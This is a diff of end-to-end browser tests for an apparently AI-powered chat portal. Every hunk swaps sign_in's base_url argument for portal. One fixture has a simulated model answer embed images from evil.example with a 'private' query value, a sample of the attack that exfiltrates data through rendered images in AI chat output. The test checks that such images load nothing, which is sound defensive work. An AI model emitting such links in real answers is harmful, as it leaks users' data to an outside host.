@@ -48,7 +48,7 @@ def test_remote_images_in_answers_and_artifacts_load_nothing(portal, model_serve
         Text("A chart: ![chart](http://evil.example/chart.png?q=private) and <img src=http://evil.example/raw.png>"),
     )
     _watched(page)
-    sign_in(page, base_url=portal.base_url, user=portal.users[0])
+    sign_in(page, portal=portal, user=portal.users[0])
 
     ask(page, question="Show me a chart")
     expect(page.locator("article.turn")).to_have_attribute("data-status", "completed", timeout=TURN_TIMEOUT)
@@ -73,7 +73,7 @@ def test_remote_images_in_answers_and_artifacts_load_nothing(portal, model_serve
 def test_a_file_over_the_limit_is_refused_before_it_is_sent(portal, model_server, page, tmp_path):
     model_server.add(Text("Ready."))
     _watched(page)
-    sign_in(page, base_url=portal.base_url, user=portal.users[0])
+    sign_in(page, portal=portal, user=portal.users[0])
     ask(page, question="Take a large file")
     expect(page.locator("article.turn")).to_have_attribute("data-status", "completed", timeout=TURN_TIMEOUT)
 
@@ -94,7 +94,7 @@ def test_the_sign_in_and_admin_pages_break_no_policy(portal, page):
     _watched(page)
     page.goto(f"{portal.base_url}/admin/login/")
     expect(page.locator("#login-form")).to_be_visible()
-    sign_in(page, base_url=portal.base_url, user=portal.users[0])
+    sign_in(page, portal=portal, user=portal.users[0])
 
     assert _violations(page) == []
 
@@ -120,7 +120,7 @@ def test_the_approval_prompt_shows_the_host_a_long_url_names_first_and_the_url_w
         Text("I could not read the article."),
     )
     page = new_page(viewport={"width": width, "height": 900 if width > 1000 else 844}, color_scheme=scheme)
-    sign_in(page, base_url=portal.base_url, user=portal.users[0])
+    sign_in(page, portal=portal, user=portal.users[0])
     ask(page, question="How efficient are heat pumps?")
 
     prompt = page.locator("form.permission")
